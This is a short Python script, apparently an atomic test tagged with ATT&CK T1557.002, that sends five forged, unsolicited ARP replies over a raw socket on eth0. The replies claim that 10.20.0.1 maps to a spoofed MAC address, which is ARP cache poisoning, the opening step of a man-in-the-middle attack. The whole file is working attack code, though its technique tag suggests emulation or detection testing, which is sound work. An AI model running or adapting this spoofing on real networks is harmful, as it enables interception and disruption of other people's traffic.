#!/usr/bin/env python3
# title: Python sends answers of ARP that nobody has asked for
# technique: T1557.002 T1557
# needs: python3

import socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x806))
s.bind(("eth0", 0))
for _ in range(5):
    try: s.send(b"\xff" * 6 + b"\2" * 6 + b"\x08\x06\0\1\x08\0\6\4\0\2" + b"\2" * 6 + bytes([10, 20, 0, 1]) + b"\3" * 6 + bytes([10, 20, 0, 9]))
    except OSError: pass
